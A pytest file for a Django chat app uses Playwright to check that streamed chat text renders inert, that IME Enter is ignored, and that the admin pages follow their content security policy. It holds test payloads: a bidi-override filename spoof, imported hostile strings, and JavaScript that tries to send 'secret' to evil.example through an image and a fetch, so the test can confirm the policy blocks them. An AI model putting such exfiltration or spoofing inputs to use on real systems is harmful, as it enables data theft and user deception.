"""Pages of ours in a real browser, without a server: what it asks for is answered here. An answer while
it is written (chat/page.js), and the admin under its policy."""

import json
import mimetypes
import os
import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.contrib.staticfiles import finders
from django.test import Client
from playwright.sync_api import Page, Route, sync_playwright

from agents.runs import execution
from tests import factories
from tests.chromium import executable
from tests.security.hostile import HOSTILE

pytestmark = pytest.mark.django_db
HERE = "http://chat.test"
END = "That is all."
TOLD = [*HOSTILE, "\u202egnp.exe\u202c \u2067a\u2069"]
Answers = Mapping[str, tuple[str, Mapping[str, str]]]


@contextmanager
def browsing(answers: Answers) -> Iterator[Page]:
    """A window for which there is nothing but these, by path, and our files. It asks nobody else."""
    program = executable()
    if program is None:
        missing = "There is no Chromium: apt install chromium, or name a browser by CHROMIUM."
        pytest.fail(missing) if os.environ.get("CI") == "true" else pytest.skip(missing)
    elsewhere: list[str] = []

    def answer(route: Route) -> None:
        url = urlsplit(route.request.url)
        if f"{url.scheme}://{url.netloc}" != HERE:
            elsewhere.append(route.request.url)
        if url.path.startswith("/static/"):
            found = Path(str(finders.find(url.path.removeprefix("/static/"))))
            route.fulfill(path=found, content_type=mimetypes.guess_type(found)[0] or "")
        elif url.path in answers and "after=" not in url.query:
            body, headers = answers[url.path]
            route.fulfill(body=body, headers=dict(headers))
        else:
            route.fulfill(status=204)

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program, args=["--disable-gpu"])
        window = browser.new_page()
        window.set_default_timeout(60_000)
        window.route("**/*", answer)
        window.add_init_script(
            "window.refused = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => refused.push(`${e.effectiveDirective} ${e.blockedURI}`))"
        )
        yield window
        browser.close()
    assert not elsewhere


def frame(number: int, event: str, /, **data: object) -> str:
    return f"id: 1-{number}\nevent: {event}\ndata: {json.dumps(data)}\n\n"


def result() -> str:
    frames = [frame(0, "run.status", status="processing", attempt=1)]
    for number, text in enumerate([*TOLD, END], start=1):
        frames.append(frame(number, "message.delta", step=1, text=text + "\n"))
    named = {"kind": TOLD[0], "name": TOLD[2], "durationMs": 1}
    frames.append(frame(99, "step.finished", step=1, error=TOLD[4], **named))
    return "".join(frames)


def test_what_streams_in_is_text_and_nothing_else() -> None:
    run = factories.ask(TOLD[0])
    path = f"/threads/{run.thread_id}"
    page = Client().get(path)
    stream = (result(), {"Content-Type": "text/event-stream"})
    answers = {path: (page.text, page.headers), f"/api/chat/runs/{run.pk}/events": stream}
    with browsing(answers) as window:
        window.goto(HERE + path)
        draft = window.locator(".draft")
        draft.get_by_text(END).wait_for()
        window.locator(".steps .name").wait_for(state="attached")

        assert window.title() != "run"
        assert window.evaluate("refused") == []
        assert draft.locator("*").count() == 0
        for inside in (".steps li *", ".prompt p *"):
            assert window.locator(f"{inside}:is(script, img, a, style, iframe)").count() == 0
        shown = draft.text_content() or ""
    for text in TOLD[:-1]:
        assert re.sub("[\u202a-\u202e\u2066-\u2069\0]", "", text) in shown.replace("\0", "")
    assert "gnp.exe a" in shown


def test_enter_that_confirms_an_input_method_sends_nothing() -> None:
    page = Client().get("/")
    with browsing({"/": (page.text, page.headers)}) as window:
        window.goto(HERE + "/")
        press = """options => {
            const event = new KeyboardEvent("keydown", {key: "Enter", cancelable: true, ...options});
            return !document.getElementById("message").dispatchEvent(event);
        }"""
        assert not window.evaluate(press, {"isComposing": True})
        # WebKit has ended the composition by then.
        assert not window.evaluate(press, {"keyCode": 229})
        assert window.evaluate(press, {"keyCode": 13})


def test_the_admin_works_under_its_policy(admin_client: Client) -> None:
    run = factories.ask("Hello")
    execution.execute(run.pk)
    paths = ["/admin/", "/admin/agents/run/", f"/admin/agents/run/{run.pk}/change/"]
    paths += ["/admin/totp/", "/admin/realm/user/add/", "/admin/system/"]
    pages = {path: admin_client.get(path) for path in paths}
    pages["/admin/jsi18n/"] = admin_client.get("/admin/jsi18n/")
    answers = {path: (page.text, page.headers) for path, page in pages.items()}
    with browsing(answers) as window:
        problems: list[str] = []
        window.on("pageerror", lambda error: problems.append(str(error)))
        for path in paths:
            window.goto(HERE + path)
            # Its menus and themes are expressions, which the policy lets be.
            window.wait_for_function("window.Alpine !== undefined")
            assert window.evaluate("refused") == [], path
            refused = window.evaluate(
                """async () => {
                    const image = new Image();
                    image.src = 'https://evil.example/?q=secret';
                    fetch('https://evil.example/').catch(() => {});
                    while (refused.length < 2) await new Promise(done => setTimeout(done, 20));
                    return refused;
                }"""
            )
            assert {each.split()[0] for each in refused} == {"img-src", "connect-src"}
        assert problems == []
